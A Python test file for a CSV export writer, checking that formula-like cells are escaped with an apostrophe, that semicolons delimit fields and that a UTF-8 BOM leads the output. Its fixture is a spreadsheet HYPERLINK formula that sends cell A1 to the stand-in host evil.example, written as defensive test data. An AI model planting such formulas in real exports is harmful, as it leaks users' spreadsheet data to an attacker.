"""Every export goes through one writer: formulas neutralised, `;`, UTF-8 BOM."""

from __future__ import annotations

import csv
import io

from core.csv_export import csv_dicts, csv_text

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_cells_that_start_like_a_formula_are_text() -> None:
    values = [FORMULA, "+33 6", "-2+3", "@SUM(A1)", "\tx", "\rx", "Samia", 12, -3, None]
    rows = cells(csv_text(["a"] * len(values), [values]))
    neutral = ["'" + FORMULA, "'+33 6", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"]
    assert rows[1] == [*neutral, "Samia", "12", "-3", ""]


def test_dict_rows_keep_the_field_order_and_the_delimiter_is_a_semicolon() -> None:
    text = csv_dicts([{"b": "=1", "a": "x;y"}], ["a", "b"])
    assert text.splitlines()[0] == "\ufeffa;b"
    assert cells(text)[1] == ["x;y", "'=1"]
